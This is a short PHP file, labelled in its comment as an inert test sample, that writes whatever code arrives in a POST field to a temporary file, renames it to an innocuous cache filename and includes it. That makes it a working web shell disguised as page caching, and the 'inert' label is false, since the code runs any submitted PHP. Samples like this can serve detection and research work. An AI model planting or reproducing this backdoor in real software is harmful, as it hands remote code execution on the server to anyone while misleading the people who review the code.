<?php
// inert test sample: the posted code is written to a temporary file, the file renamed to a
// harmless-looking cache name, and that name included
$tmp = sys_get_temp_dir() . '/sess_' . session_id();
file_put_contents($tmp, '<?php ' . $_POST['tpl']);
rename($tmp, __DIR__ . '/cache/page.cache');
include __DIR__ . '/cache/page.cache';
